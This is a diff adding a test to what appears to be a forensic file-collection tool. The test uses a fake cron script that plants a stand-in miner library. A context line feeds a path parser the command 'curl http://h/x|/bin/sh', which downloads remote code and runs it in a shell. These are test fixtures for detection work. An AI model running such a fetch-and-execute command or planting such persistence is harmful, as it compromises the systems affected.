@@ -98,6 +98,22 @@ test('second pass: everything beside a lead', () => {
   assert.deepEqual([...collect(tree, {}, new Set(['file:/opt/app/run'])).files.keys()], ['/opt/app/run', '/opt/app/pools.dat'])
 })
 
+test('second pass: what an accused script names, wherever it lies, and nothing that an ordinary one names', () => {
+  const tree = {
+    '/etc/cron.hourly/x.sh': '#!/bin/sh\ncp /lib/copy.so /lib/copy.so.6; ls /lib\n',
+    '/lib/copy.so': miner,
+    '/lib/other.so': miner,
+  }
+  const lead = entity('file', '/etc/cron.hourly/x.sh')
+  const autostarts = [autostartOf({ path: '/etc/cron.hourly/x.sh', command: '/etc/cron.hourly/x.sh' })]
+  const files = [...collect(tree, { autostarts }).files.values()]
+  assert.deepEqual(
+    files.map(f => f.path),
+    ['/etc/cron.hourly/x.sh'],
+  )
+  assert.deepEqual([...collect(tree, { files }, new Set([lead])).files.keys()], ['/etc/cron.hourly/x.sh', '/lib/copy.so'])
+})
+
 test('paths of a command', () => {
   assert.deepEqual(pathsOfCommand('cd /opt/a && X=/etc/x "/tmp/.a b/c" >/dev/null 2>&1; curl http://h/x|/bin/sh'), [
     '/opt/a',
